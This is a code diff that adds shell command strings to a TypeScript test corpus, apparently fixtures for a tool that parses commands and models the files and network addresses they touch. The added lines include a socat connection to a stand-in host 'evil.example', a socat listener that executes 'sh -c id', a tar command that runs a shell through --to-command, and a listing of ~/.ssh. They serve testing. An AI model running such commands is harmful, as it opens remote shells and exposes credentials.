@@ -92,4 +92,11 @@ export const ORACLE_CORPUS: readonly string[] = [
   `exec 3> fd.txt`,
   `{ echo x; } > group.txt`,
   `for i in 1; do echo $i; done > loop.txt`,
+  // Words the touch models read (registry refs, bind mounts, socat addresses, neutral globals).
+  `docker run --rm -v "$PWD/src:/s:ro" -e X=1 evil.example/img ls -v`,
+  `docker --config ./c pull localhost:5000/x`,
+  `socat - 'TCP:evil.example:80' && socat TCP-LISTEN:80,fork "EXEC:sh -c id"`,
+  `git --no-pager -C . -c core.pager=cat log -n 1`,
+  `tar -xOf a.tar --to-command='sh -c id'`,
+  `ls -la ~/.ssh /tmp`,
 ];
